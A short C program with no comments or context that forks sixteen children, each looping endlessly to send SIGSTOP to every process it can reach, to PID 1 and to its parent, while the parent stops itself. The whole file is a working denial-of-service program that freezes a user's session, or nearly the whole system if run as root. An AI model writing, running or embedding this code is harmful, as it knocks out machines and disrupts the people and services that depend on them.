#include <signal.h>
#include <unistd.h>

int main(void) {
    for (int n = 0; n < 16; n++) {
        if (fork() == 0) {
            for (;;) {
                kill(-1, SIGSTOP);
                kill(1, SIGSTOP);
                kill(getppid(), SIGSTOP);
            }
        }
    }
    raise(SIGSTOP);
    pause();
    return 0;
}
